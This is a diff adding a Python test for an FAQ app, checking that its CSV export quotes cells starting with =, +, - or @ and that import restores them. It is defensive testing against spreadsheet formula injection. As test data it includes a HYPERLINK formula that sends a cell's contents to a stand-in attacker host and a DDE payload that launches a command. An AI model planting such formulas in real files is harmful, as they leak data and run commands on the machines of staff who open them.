@@ -98,6 +98,30 @@ def test_csv_keeps_multiline_answers_and_phrasings(session, demo, tmp_path):
     assert row["phrasings"].splitlines() == demo["articles"][0]["phrasings"]
 
 
+def test_csv_export_opens_as_text_in_a_spreadsheet_and_imports_back(tmp_path):
+    """Phrasings are customers' searches the FAQ learnt (approved by repetition): one starting
+    with "=" was a formula in the exported file, run when staff open it in a spreadsheet."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0"]
+    article = {
+        "slug": "kettle",
+        "language": "en",
+        "category": "care",
+        "question": "@SUM(1+1)",
+        "answer": "- Unplug it.\n- Let it cool.",
+        "phrasings": [*hostile, "'=already quoted", "how do I clean it"],
+        "published": True,
+    }
+    path = tmp_path / "faq.csv"
+    write_export_file(path, {"categories": [], "articles": [article]})
+    with open(path, encoding="utf-8", newline="") as fh:
+        [row] = list(csv.DictReader(fh))
+    assert all(value[:1] not in ("=", "+", "-", "@") for value in row.values())
+    assert row["question"] == "'@SUM(1+1)" and row["answer"].startswith("'- Unplug")
+    [back] = read_import_file(path)["articles"]
+    assert back["question"] == "@SUM(1+1)" and back["answer"] == article["answer"]
+    assert back["phrasings"].splitlines() == article["phrasings"]
+
+
 def test_bad_files_get_a_clear_message(session, tmp_path):
     missing = tmp_path / "bad.csv"
     missing.write_text("slug,question\nx,y\n", encoding="utf-8")
